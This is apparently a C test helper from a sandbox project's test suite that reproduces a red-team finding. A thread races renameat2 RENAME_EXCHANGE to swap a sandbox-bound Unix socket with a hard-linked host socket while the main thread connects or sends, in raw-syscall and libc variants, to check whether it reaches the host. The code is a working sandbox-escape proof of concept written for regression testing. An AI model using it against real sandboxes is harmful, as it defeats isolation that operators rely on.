/* Swapping a socket the sandbox bound with a host socket under the name being connected to
 * (red-team finding 01 of issue 18), for tests/tests/net_bound_swap.rs.
 * Usage: unix_swap MODE HOST N   (in the directory holding the host socket HOST)
 *   MODE connect / connect-libc: binds a listener at "a.sock", hard-links HOST to "b.sock",
 *        then one thread exchanges a.sock and b.sock (renameat2 RENAME_EXCHANGE) while the
 *        main thread connects to "a.sock" up to N times, reading what the peer says.
 *   MODE sendto / sendto-libc: the same with datagram sockets: sends to "a.sock" and checks
 *        that its own socket got the datagram.
 * "-libc" forms call libc's socket functions (the shim's hooks); the others make raw system
 * calls. Prints "reached host" (a connection the host answered, or a datagram its own
 * socket did not get) and exits 0, or "no success" and exits 1; "setup errno N" exits 3,
 * "usage" exits 2. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static volatile int done;
static int use_libc;

static void *swapper(void *x) {
    (void)x;
    while (!done) syscall(SYS_renameat2, AT_FDCWD, "a.sock", AT_FDCWD, "b.sock", 2 /* RENAME_EXCHANGE */);
    return NULL;
}

static int sock(int type) {
    return use_libc ? socket(AF_UNIX, type, 0) : (int)syscall(SYS_socket, AF_UNIX, type, 0);
}

static int conn(int s, const struct sockaddr_un *a) {
    return use_libc ? connect(s, (const void *)a, sizeof *a)
                    : (int)syscall(SYS_connect, s, a, sizeof *a);
}

static long send_to(int s, const char *m, const struct sockaddr_un *a) {
    return use_libc ? sendto(s, m, strlen(m), 0, (const void *)a, sizeof *a)
                    : syscall(SYS_sendto, s, m, strlen(m), 0, a, sizeof *a);
}

static int setup(int rc) {
    if (rc < 0) { printf("setup errno %d\n", errno); exit(3); }
    return rc;
}

int main(int argc, char **argv) {
    if (argc != 4) { printf("usage\n"); return 2; }
    const char *m = argv[1];
    int dgram = !strncmp(m, "sendto", 6);
    use_libc = strstr(m, "-libc") != NULL;
    if (strcmp(m, "connect") && strcmp(m, "connect-libc") && strcmp(m, "sendto") && strcmp(m, "sendto-libc")) {
        printf("usage\n");
        return 2;
    }
    int n = atoi(argv[3]);
    unlink("a.sock");
    unlink("b.sock");
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strcpy(a.sun_path, "a.sock");
    int own = setup(sock(dgram ? SOCK_DGRAM : SOCK_STREAM));
    setup(use_libc ? bind(own, (void *)&a, sizeof a) : (int)syscall(SYS_bind, own, &a, sizeof a));
    if (!dgram) setup(listen(own, 128));
    setup(fcntl(own, F_SETFL, O_NONBLOCK));
    setup(link(argv[2], "b.sock"));
    pthread_t th;
    pthread_create(&th, NULL, swapper, NULL);
    int reached = 0;
    for (int i = 0; i < n && !reached; i++) {
        char buf[64] = {0};
        if (dgram) {
            int s = sock(SOCK_DGRAM);
            if (send_to(s, "INJECTED", &a) >= 0 && recv(own, buf, sizeof buf - 1, 0) < 0) reached = 1;
            close(s);
            continue;
        }
        int c = sock(SOCK_STREAM);
        if (conn(c, &a) == 0) {
            struct timeval tv = {1, 0};
            setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
            /* The host server speaks first; our own listener never does. */
            int x = accept4(own, NULL, NULL, SOCK_NONBLOCK);
            if (x >= 0) close(x);
            else if (read(c, buf, sizeof buf - 1) > 0 && strstr(buf, "HOST")) reached = 1;
        }
        close(c);
    }
    done = 1;
    pthread_join(th, NULL);
    printf(reached ? "reached host\n" : "no success\n");
    return reached ? 0 : 1;
}
